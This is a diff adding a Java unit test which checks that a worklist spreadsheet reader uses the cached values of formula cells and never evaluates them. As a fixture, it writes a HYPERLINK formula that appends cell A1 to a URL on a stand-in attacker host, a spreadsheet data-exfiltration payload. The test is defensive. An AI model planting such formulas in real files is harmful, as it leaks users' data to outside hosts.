@@ -111,6 +111,26 @@ class WorklistReaderTest {
     }
 
     @Test
+    void aHyperlinkOrArithmeticFormulaInAReviewersCellIsReadAsItsCachedValueNeverEvaluated() throws Exception {
+        Path file = written(null);
+        try (Reviewer reviewer = new Reviewer(file)) {
+            var link = reviewer.cell(INCOME, "Note");
+            link.setCellFormula("HYPERLINK(\"http://attacker.example/?q=\"&A1,\"click\")");
+            link.setCellValue("click");
+            var sum = reviewer.cell(UNPOSTED, "Assigned to");
+            sum.setCellFormula("1+1");
+            sum.setCellValue(2.0);
+        }
+        List<ReviewEntry> read = entries(reader.read(file, null, THU));
+        ReviewEntry income = read.stream().filter(e -> e.key().equals(FindingKey.parse(INCOME).orElseThrow()))
+                .findFirst().orElseThrow();
+        ReviewEntry unposted = read.stream().filter(e -> e.key().equals(FindingKey.parse(UNPOSTED).orElseThrow()))
+                .findFirst().orElseThrow();
+        assertThat(income.note()).isEqualTo("click");
+        assertThat(unposted.assignedTo()).isEqualTo("2");
+    }
+
+    @Test
     void wordsThatAreNoStatusOrNoDateAreKeptInTheNote() throws Exception {
         Path file = written(null);
         try (Reviewer reviewer = new Reviewer(file)) {
